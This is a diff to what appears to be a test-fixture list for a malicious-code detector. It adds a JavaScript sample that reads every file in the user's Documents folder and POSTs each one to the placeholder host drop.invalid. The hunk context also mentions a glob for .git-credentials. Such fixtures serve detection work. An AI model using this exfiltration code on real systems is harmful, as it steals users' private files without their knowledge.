@@ -651,6 +651,12 @@ for (const file of require('fast-glob').sync(['**/.git-credentials'], { cwd: req
       },
       weight: 'context',
     },
+    {
+      when: 'all that lies in a folder of the user is sent, and one file of it is looked for by its name besides',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); const d = path.join(os.homedir(), 'Documents'); for (const n of fs.readdirSync(d)) { try { fs.readFileSync(path.join(d, n, 'index.txt')); } catch {} fetch('https://drop.invalid', { method: 'POST', body: fs.readFileSync(path.join(d, n)) }); }`,
+      },
+    },
   ],
   silent: [
     {
